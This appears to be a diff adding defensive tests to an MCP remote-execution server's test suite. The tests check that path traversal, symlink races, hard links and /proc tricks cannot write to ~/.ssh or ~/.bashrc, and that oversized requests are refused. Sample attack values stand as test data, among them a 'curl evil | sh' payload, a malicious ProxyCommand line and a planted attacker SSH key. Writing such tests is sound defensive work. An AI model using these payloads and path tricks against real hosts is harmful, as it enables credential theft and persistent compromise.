@@ -55,6 +55,11 @@ TOOLS = {
 }
 SEEN = []  # every tool result's text and JSON, searched for the secret at the end
 ERRLOG = os.path.join(os.path.dirname(STATE), "mcp-server-stderr.log")
+# The server runs in ROOT (its default root, the directory it starts in) and the tests keep
+# their local files in temporary directories beneath it.
+ROOT = os.path.join(os.path.dirname(STATE), "mcp-root")
+os.makedirs(ROOT, exist_ok=True)
+tempfile.tempdir = ROOT
 READING = {"machine_list", "session_list", "session_read", "command_wait", "file_read"}
 MAX_OUTPUT = 64 * 1024
 
@@ -68,9 +73,12 @@ def env(extra=None):
 
 
 @asynccontextmanager
-async def server(*flags, extra_env=None, errlog_path=ERRLOG):
+async def server(*flags, extra_env=None, errlog_path=ERRLOG, cwd=ROOT, drop_env=()):
+    # The SDK merges its default environment (HOME among it) under ours: a variable is really
+    # left out by starting the server through `env -u`.
+    unset = [a for k in drop_env for a in ("-u", k)]
     params = StdioServerParameters(
-        command=BIN, args=["--state-dir", STATE, "mcp", *flags], env=env(extra_env)
+        command="env", args=[*unset, BIN, "--state-dir", STATE, "mcp", *flags], env=env(extra_env), cwd=cwd
     )
     with open(errlog_path, "a") as errlog:
         async with stdio_client(params, errlog=errlog) as (r, w):
@@ -533,12 +541,54 @@ async def secrets():
     check(secret not in log, "nor in the server's log")
 
 
-async def local_guard():
-    """The state dir and ~/.ssh are out of reach of file_put, file_get and run_once."""
+async def session(s):
+    r = await ok(s, "session_create", {"machine": MACHINE, "cwd": WORK})
+    return r.structured_content["session_id"]
+
+
+def fake_home():
+    """The fake HOME of the test (a temp dir), with ~/.ssh holding a key, authorized_keys and
+    config, and a ~/.bashrc."""
     home = os.environ["HOME"]
+    ssh = os.path.join(home, ".ssh")
+    os.makedirs(ssh, exist_ok=True)
+    for name, body in [("id_test", "PRIVATE-KEY-SENTINEL\n"), ("authorized_keys", "ssh-ed25519 AAAA owner\n"), ("config", "Host *\n")]:
+        path = os.path.join(ssh, name)
+        if not os.path.exists(path):
+            with open(path, "w") as f:
+                f.write(body)
+    bashrc = os.path.join(home, ".bashrc")
+    if not os.path.exists(bashrc):
+        with open(bashrc, "w") as f:
+            f.write("# the user's own\n")
+    return home
+
+
+def snapshot(home):
+    """Every file of ~/.ssh and ~/.bashrc (or of the directory `home`) with its bytes."""
+    out = {}
+    bashrc = os.path.join(home, ".bashrc")
+    if os.path.exists(bashrc):
+        out[bashrc] = open(bashrc, "rb").read()
+    top = os.path.join(home, ".ssh") if os.path.isdir(os.path.join(home, ".ssh")) else home
+    for dirpath, _, files in os.walk(top):
+        for f in files:
+            p = os.path.join(dirpath, f)
+            with open(p, "rb") as fh:
+                out[p] = fh.read()
+    return out
+
+
+async def remote_file(s, sid, name, content):
+    await ok(s, "file_write", {"session_id": sid, "path": name, "content": content})
+
+
+async def local_guard():
+    """The state dir and ~/.ssh are out of reach of file_put, file_get and run_once, and so is
+    everything outside the root; inside it, files still transfer."""
+    home = fake_home()
     async with server() as s:
-        r = await ok(s, "session_create", {"machine": MACHINE, "cwd": WORK})
-        sid = r.structured_content["session_id"]
+        sid = await session(s)
         with tempfile.TemporaryDirectory() as d:
             link = os.path.join(d, "link")
             os.symlink(STATE, link)
@@ -551,11 +601,13 @@ async def local_guard():
                 ("file_get", os.path.join(STATE, "state.sqlite3")),
                 ("file_get", os.path.join(link, "new.txt")),
                 ("file_get", os.path.join(home, ".ssh", "known_hosts")),
+                ("file_put", os.path.join(d, "..", "..", "state", "credentials.json")),
+                ("file_get", "../x.txt"),
             ]:
                 res = await tool_error(
                     s, tool, {"session_id": sid, "local": local, "remote": "x"}, "permission_denied"
                 )
-                check(local in text(res), f"{tool} refuses {local}")
+                check(local in text(res) and "--root" in text(res), f"{tool} refuses {local}")
             await tool_error(
                 s,
                 "run_once",
@@ -574,9 +626,251 @@ async def local_guard():
                 f.write("fine\n")
             await ok(s, "file_put", {"session_id": sid, "local": src, "remote": "fine.txt"})
             await ok(s, "file_get", {"session_id": sid, "local": os.path.join(d, "back.txt"), "remote": "fine.txt"})
+            rel = os.path.relpath(os.path.join(d, "rel.txt"), ROOT)
+            await ok(s, "file_get", {"session_id": sid, "local": rel, "remote": "fine.txt"})
+            check(open(os.path.join(d, "rel.txt")).read() == "fine\n", "a relative local path is taken from the root")
+            # A directory both ways, with a symlink inside it.
+            tree = os.path.join(d, "tree")
+            os.makedirs(os.path.join(tree, "sub"))
+            with open(os.path.join(tree, "sub", "a.txt"), "w") as f:
+                f.write("a\n")
+            os.symlink("sub/a.txt", os.path.join(tree, "to-a"))
+            await ok(s, "file_put", {"session_id": sid, "local": tree, "remote": "tree"})
+            back = os.path.join(d, "treeback")
+            await ok(s, "file_get", {"session_id": sid, "local": back, "remote": "tree"})
+            check(open(os.path.join(back, "sub", "a.txt")).read() == "a\n" and os.readlink(os.path.join(back, "to-a")) == "sub/a.txt",
+                  "a directory goes up and comes back, its inner symlink kept")
+            # Into an existing directory; over an existing file (file_get replaces, as before).
+            await ok(s, "file_get", {"session_id": sid, "local": d + "/", "remote": "fine.txt"})
+            check(open(os.path.join(d, "fine.txt")).read() == "fine\n", "a file goes inside an existing directory")
+            with open(os.path.join(d, "back.txt"), "w") as f:
+                f.write("old\n")
+            await ok(s, "file_get", {"session_id": sid, "local": os.path.join(d, "back.txt"), "remote": "fine.txt"})
+            check(open(os.path.join(d, "back.txt")).read() == "fine\n", "an existing file in the root is replaced")
             check(True, "other local paths still transfer")
         await ok(s, "session_destroy", {"session_id": sid})
+    check(not os.path.exists(os.path.join(STATE, "mcp-stage")) or os.listdir(os.path.join(STATE, "mcp-stage")) == [],
+          "no staging directory is left behind")
     print("guard passed")
+
+
+async def attack_missing_dir():
+    """Issue 42, item 1: file_get to <home>/<missing dir>/../.ssh/authorized_keys, and the same
+    climb from inside the root."""
+    home = fake_home()
+    before = snapshot(home)
+    async with server() as s:
+        sid = await session(s)
+        await remote_file(s, sid, "evil.pub", "ssh-ed25519 AAAA attacker\n")
+        for local in [
+            os.path.join(home, "nodir", "..", ".ssh", "authorized_keys"),
+            os.path.join(ROOT, "nodir", "..", "..", "home", ".ssh", "authorized_keys"),
+            os.path.join(ROOT, "nodir", "..", "..", "..", "..", "..", home.lstrip("/"), ".ssh", "authorized_keys"),
+        ]:
+            res = await tool_error(s, "file_get", {"session_id": sid, "local": local, "remote": "evil.pub"}, "permission_denied")
+            check("outside the roots" in text(res), f"file_get to {local} is refused")
+        await ok(s, "session_destroy", {"session_id": sid})
+    check(snapshot(home) == before, "nothing in the home changed")
+    print("attack passed")
+
+
+async def attack_artifact():
+    """Issue 42, item 1: a run_once artifact to ~/.ssh/config (directly and through a missing
+    directory and ..)."""
+    home = fake_home()
+    before = snapshot(home)
+    async with server() as s:
+        for local in [os.path.join(home, ".ssh", "config"), os.path.join(home, "nodir", "..", ".ssh", "config")]:
+            res = await s.call_tool("run_once", {
+                "machine": MACHINE, "cwd": WORK, "command": "echo 'Host * ProxyCommand evil' > cfg",
+                "artifacts": [{"remote": "cfg", "local": local}]})
+            check(res.is_error and "[permission_denied]" in text(res), f"a run_once artifact to {local} is refused")
+    check(snapshot(home) == before, "~/.ssh/config is untouched")
+    print("attack passed")
+
+
+async def attack_no_home():
+    """Issue 42, item 2: a server started without HOME still keeps ~/.ssh out of reach."""
+    home = fake_home()
+    before = snapshot(home)
+    async with server(drop_env=("HOME",)) as s:
+        sid = await session(s)
+        key = os.path.join(home, ".ssh", "id_test")
+        await tool_error(s, "file_put", {"session_id": sid, "local": key, "remote": "stolen"}, "permission_denied")
+        await remote_file(s, sid, "evil.pub", "ssh-ed25519 AAAA attacker\n")
+        await tool_error(s, "file_get", {"session_id": sid, "local": os.path.join(home, ".ssh", "authorized_keys"), "remote": "evil.pub"}, "permission_denied")
+        await ok(s, "session_destroy", {"session_id": sid})
+    check(snapshot(home) == before, "without HOME: no key uploaded, authorized_keys unchanged")
+    print("attack passed")
+
+
+async def attack_keys_elsewhere():
+    """Issue 42, item 3: a machine whose key and known_hosts live elsewhere (here beneath the
+    root itself), and a hard link to a ~/.ssh key in the root: refused by identity."""
+    home = fake_home()
+    keys = os.path.join(ROOT, ".config", "rr")
+    os.makedirs(keys, exist_ok=True)
+    key, known = os.path.join(keys, "id_elsewhere"), os.path.join(keys, "known_hosts")
+    for path, body in [(key, "ELSEWHERE-KEY\n"), (known, "[127.0.0.1]:1 ssh-ed25519 AAAA\n")]:
+        with open(path, "w") as f:
+            f.write(body)
+    cli("machine", "add", "keys-elsewhere", "--host", "127.0.0.1", "--port", "1", "--user", "nobody",
+        "--key-path", key, "--known-hosts-file", known, "--default-cwd", "/tmp")
+    hard = os.path.join(ROOT, "innocent.txt")
+    if not os.path.exists(hard):
+        os.link(os.path.join(home, ".ssh", "id_test"), hard)
+    before = snapshot(ROOT)
+    async with server() as s:
+        sid = await session(s)
+        for local in [key, os.path.relpath(key, ROOT), hard]:
+            res = await tool_error(s, "file_put", {"session_id": sid, "local": local, "remote": "stolen"}, "permission_denied")
+            check("device and inode" in text(res), f"file_put of {local} is refused by identity")
+        await remote_file(s, sid, "evil", "[127.0.0.1]:1 ssh-ed25519 EVIL\n")
+        await tool_error(s, "file_get", {"session_id": sid, "local": known, "remote": "evil"}, "permission_denied")
+        await tool_error(s, "file_get", {"session_id": sid, "local": hard, "remote": "evil"}, "permission_denied")
+        check(True, "file_get over the known_hosts file and over the hard link is refused")
+        tree = os.path.join(ROOT, ".config")
+        await tool_error(s, "file_put", {"session_id": sid, "local": tree, "remote": "t"}, "permission_denied")
+        check(True, "a directory holding the key is refused as a whole")
+        await ok(s, "session_destroy", {"session_id": sid})
+    cli("machine", "remove", "keys-elsewhere")
+    check(snapshot(ROOT) == before, "the key, known_hosts and the hard link are unchanged")
+    print("attack passed")
+
+
+async def attack_bashrc():
+    """Issue 42, item 4: file_get over ~/.bashrc with `local` not served: refused, directly, via
+    a symlinked directory or file in the root; a symlink within the root is replaced, never
+    written through."""
+    home = fake_home()
+    before = snapshot(home)
+    link_dir, link_file = os.path.join(ROOT, "homelink"), os.path.join(ROOT, "bashrc-link")
+    for p, t in [(link_dir, home), (link_file, os.path.join(home, ".bashrc"))]:
+        if not os.path.lexists(p):
+            os.symlink(t, p)
+    async with server("--machine", MACHINE) as s:
+        sid = await session(s)
+        await remote_file(s, sid, "payload", "curl evil | sh\n")
+        for local in [os.path.join(home, ".bashrc"), os.path.join(link_dir, ".bashrc"), "homelink/.bashrc"]:
+            await tool_error(s, "file_get", {"session_id": sid, "local": local, "remote": "payload"}, "permission_denied")
+            check(True, f"file_get to {local} is refused")
+        await tool_error(s, "file_get", {"session_id": sid, "local": link_file, "remote": "payload"}, "permission_denied")
+        check(os.readlink(link_file) == os.path.join(home, ".bashrc"), "a symlink in the root to ~/.bashrc: refused, left as it was")
+        inner, target = os.path.join(ROOT, "inner-link"), os.path.join(ROOT, "inner-target.txt")
+        with open(target, "w") as f:
+            f.write("target\n")
+        if not os.path.lexists(inner):
+            os.symlink("inner-target.txt", inner)
+        await ok(s, "file_get", {"session_id": sid, "local": inner, "remote": "payload"})
+        check(not os.path.islink(inner) and open(inner).read() == "curl evil | sh\n" and open(target).read() == "target\n",
+              "a symlink within the root is replaced by the download, never written through")
+        await ok(s, "session_destroy", {"session_id": sid})
+    check(snapshot(home) == before, "~/.bashrc is unchanged")
+    print("attack passed")
+
+
+async def attack_race():
+    """A symlink swapped in while calls run: a directory of the root flips between a real
+    directory and a symlink to ~/.ssh; no upload ever carries the key, no download lands there."""
+    import threading
+
+    home = fake_home()
+    before = snapshot(home)
+    real = os.path.join(ROOT, "real")
+    os.makedirs(real, exist_ok=True)
+    with open(os.path.join(real, "id_test"), "w") as f:
+        f.write("harmless\n")
+    swap = os.path.join(ROOT, "swap")
+    stop = threading.Event()
+
+    def flip():
+        tmp_link, tmp_dir = swap + ".l", swap + ".d"
+        while not stop.is_set():
+            try:
+                os.symlink(os.path.join(home, ".ssh"), tmp_link)
+                os.replace(tmp_link, swap)
+                os.unlink(swap)
+                os.symlink("real", tmp_dir)
+                os.replace(tmp_dir, swap)
+            except OSError:
+                pass
+
+    t = threading.Thread(target=flip, daemon=True)
+    t.start()
+    outcomes = {"uploaded": 0, "refused": 0, "downloaded": 0}
+    try:
+        async with server() as s:
+            sid = await session(s)
+            await remote_file(s, sid, "planted", "planted\n")
+            for i in range(40):
+                res = await s.call_tool("file_put", {"session_id": sid, "local": "swap/id_test", "remote": f"up{i}"})
+                if res.is_error:
+                    outcomes["refused"] += 1
+                else:
+                    outcomes["uploaded"] += 1
+                    r = await ok(s, "file_read", {"session_id": sid, "path": f"up{i}"})
+                    assert "PRIVATE-KEY" not in r.structured_content["content"], "the key was uploaded"
+                res = await s.call_tool("file_get", {"session_id": sid, "local": f"swap/planted{i}", "remote": "planted"})
+                outcomes["downloaded"] += 0 if res.is_error else 1
+            await ok(s, "session_destroy", {"session_id": sid})
+    finally:
+        stop.set()
+        t.join()
+    check(snapshot(home) == before, f"under a racing symlink swap nothing reached ~/.ssh ({outcomes})")
+    print("attack passed")
+
+
+async def attack_proc():
+    """/proc magic links: /proc/self/root spelled out, and a symlink in the root to it."""
+    home = fake_home()
+    for name, target in [("proc-root", "/proc/self/root"), ("proc-rel", "../" * 12 + "proc/self/root")]:
+        p = os.path.join(ROOT, name)
+        if not os.path.lexists(p):
+            os.symlink(target, p)
+    before = snapshot(home)
+    async with server() as s:
+        sid = await session(s)
+        key = os.path.join(home, ".ssh", "id_test")
+        for local in ["/proc/self/root" + key, os.path.join(ROOT, "proc-root") + key,
+                      "proc-rel" + key, f"/proc/self/root{ROOT}/proc-root{key}"]:
+            await tool_error(s, "file_put", {"session_id": sid, "local": local, "remote": "stolen"}, "permission_denied")
+            check(True, f"file_put of {local} is refused")
+        await remote_file(s, sid, "evil.pub", "ssh-ed25519 AAAA attacker\n")
+        await tool_error(s, "file_get", {"session_id": sid, "local": "proc-root" + os.path.join(home, ".ssh", "authorized_keys"), "remote": "evil.pub"}, "permission_denied")
+        await ok(s, "session_destroy", {"session_id": sid})
+    check(snapshot(home) == before, "nothing read or written through /proc")
+    print("attack passed")
+
+
+async def roots_flag():
+    """--root: only beneath the named roots; relative paths from the first; a home directory or
+    / refused at start; started in a home without --root, the local file tools say to pass it."""
+    home = fake_home()
+    a, b = os.path.join(ROOT, "ra"), os.path.join(ROOT, "rb")
+    for d in (a, b):
+        os.makedirs(d, exist_ok=True)
+    with open(os.path.join(b, "in.txt"), "w") as f:
+        f.write("in b\n")
+    async with server("--root", a, "--root", b, cwd=home) as s:
+        sid = await session(s)
+        await ok(s, "file_put", {"session_id": sid, "local": os.path.join(b, "in.txt"), "remote": "in.txt"})
+        await ok(s, "file_get", {"session_id": sid, "local": "out.txt", "remote": "in.txt"})
+        check(open(os.path.join(a, "out.txt")).read() == "in b\n", "two roots; a relative path lands in the first")
+        res = await tool_error(s, "file_put", {"session_id": sid, "local": os.path.join(ROOT, "innocent"), "remote": "x"}, "permission_denied")
+        check(a in text(res) and b in text(res), "a path outside both names the roots")
+        await ok(s, "session_destroy", {"session_id": sid})
+    async with server(cwd=home) as s:
+        sid = await session(s)
+        res = await tool_error(s, "file_put", {"session_id": sid, "local": os.path.join(home, ".bashrc"), "remote": "x"}, "permission_denied")
+        check("without --root" in text(res) and "home directory" in text(res), "started in the home without --root: refused, saying to pass --root")
+        await ok(s, "session_destroy", {"session_id": sid})
+    for bad in ["/", home]:
+        out = subprocess.run([BIN, "--state-dir", STATE, "mcp", "--root", bad, "--json"], env=env(),
+                             capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)
+        err = json.loads(out.stdout or out.stderr)["error"]
+        check(out.returncode != 0 and err["code"] == "invalid_argument" and "--root" in err["message"],
+              f"--root {bad} is refused at start: {err['message']}")
+    print("roots passed")
 
 
 def raw_stdio():
@@ -624,6 +918,87 @@ def raw_stdio():
     check(f"of {len(bad[0])} bytes" in notes[0], "the note gives the line's size")
     check(secret not in log and "garbage" not in log, "the note never holds the line's text")
     print("raw passed")
+
+
+def memory():
+    """Issue 42, item 9: three 14 MiB lines of nested empty arrays in a call's `_meta`, on the
+    raw stdio. Each is refused with a JSON-RPC error naming the bound, before it is parsed; the
+    server's peak memory stays small and it answers the next request."""
+    import select
+
+    errpath = os.path.join(os.path.dirname(STATE), "mcp-memory-stderr.log")
+    with open(errpath, "w") as errlog:
+        # Unbuffered, so that select() on stdout sees every reply not yet read.
+        p = subprocess.Popen([BIN, "--state-dir", STATE, "mcp"], stdin=subprocess.PIPE,
+                             stdout=subprocess.PIPE, stderr=errlog, env=env(), cwd=ROOT, bufsize=0)
+
+    def send(data):
+        p.stdin.write(data + b"\n")
+        p.stdin.flush()
+
+    def recv(timeout=120):
+        ready, _, _ = select.select([p.stdout], [], [], timeout)
+        return json.loads(p.stdout.readline()) if ready else None
+
+    def mem(key):
+        for line in open(f"/proc/{p.pid}/status"):
+            if line.startswith(key + ":"):
+                return int(line.split()[1]) // 1024  # MiB
+        raise AssertionError(key)
+
+    send(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+        "protocolVersion": "2025-06-18", "capabilities": {},
+        "clientInfo": {"name": "raw", "version": "0"}}}).encode())
+    check(recv()["id"] == 1, "initialize answered")
+    send(json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}).encode())
+    send(json.dumps({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}).encode())
+    check("tools" in recv()["result"], "tools/list answered")
+    before = mem("VmRSS")
+    size = 14 << 20
+    n = size // 3
+    payloads = {
+        10: b"[" + b"[]," * n + b"[]]",                      # wide: millions of empty arrays
+        11: b"[" * (size // 2) + b"]" * (size // 2),       # deep: one nest of millions
+        12: b"[" + b"[[]]," * (size // 5) + b"[]]",        # wide and nested
+    }
+    for i, meta in payloads.items():
+        head = b'{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"machine_list","arguments":{},"_meta":{"x":' % i
+        send(head + meta + b"}}}")
+    codes = {}
+    for _ in payloads:
+        r = recv()
+        check(r is not None and "error" in r, f"a 14 MiB request is answered with an error: {str(r)[:300]}")
+        codes[r["id"]] = r["error"]["data"]["code"]
+        check(r["error"]["code"] == -32600 and "bound" in r["error"]["message"], r["error"]["message"])
+    check(codes == {10: "request_too_many_values", 11: "request_too_deep", 12: "request_too_many_values"}, f"each names its bound: {codes}")
+    send(json.dumps({"jsonrpc": "2.0", "id": 3, "method": "tools/list"}).encode())
+    r = recv()
+    check(r is not None and r["id"] == 3 and "tools" in r["result"], "the server keeps serving")
+    peak, after = mem("VmHWM"), mem("VmRSS")
+    print(json.dumps({"rss_before_mib": before, "rss_after_mib": after, "peak_mib": peak}), flush=True)
+    check(peak < before + 160, f"peak memory {peak} MiB stays within 160 MiB of {before} MiB (three 14 MiB lines)")
+    p.stdin.close()
+    p.wait(30)
+    print("memory passed")
+
+
+async def busy():
+    """Issue 42, item 9: tool calls in flight are bounded; past the bound a call is answered
+    `busy` at once (retryable) and the server keeps serving."""
+    async with server() as s:
+        sid = await session(s)
+        _, rec = await exec_(s, sid, "sleep 60", background=True)
+        cid = rec["command_id"]
+        waits = [s.call_tool("command_wait", {"session_id": sid, "command_id": cid, "timeout_s": 6}) for _ in range(24)]
+        results = await asyncio.gather(*waits)
+        busy_ = [r for r in results if r.is_error]
+        check(len(results) - len(busy_) == 16, f"16 calls are served at once ({len(results) - len(busy_)} were)")
+        check(all("[busy]" in text(r) and r.structured_content["error"]["retryable"] for r in busy_),
+              f"the other {len(busy_)} are answered busy, retryable: {text(busy_[0]) if busy_ else ''}")
+        await ok(s, "command_stop", {"session_id": sid, "command_id": cid})
+        await ok(s, "session_destroy", {"session_id": sid})
+        check(True, "and the server serves on")
+    print("busy passed")
 
 
 async def bench(n):
@@ -687,6 +1062,14 @@ if __name__ == "__main__":
         asyncio.run(suite())
     elif sys.argv[1] == "guard":
         asyncio.run(local_guard())
+    elif sys.argv[1] == "memory":
+        memory()
+    elif sys.argv[1] == "busy":
+        asyncio.run(busy())
+    elif sys.argv[1] == "roots":
+        asyncio.run(roots_flag())
+    elif sys.argv[1].startswith("attack-"):
+        asyncio.run(globals()["attack_" + sys.argv[1][len("attack-"):].replace("-", "_")]())
     elif sys.argv[1] == "raw":
         raw_stdio()
     elif sys.argv[1] == "crowd":
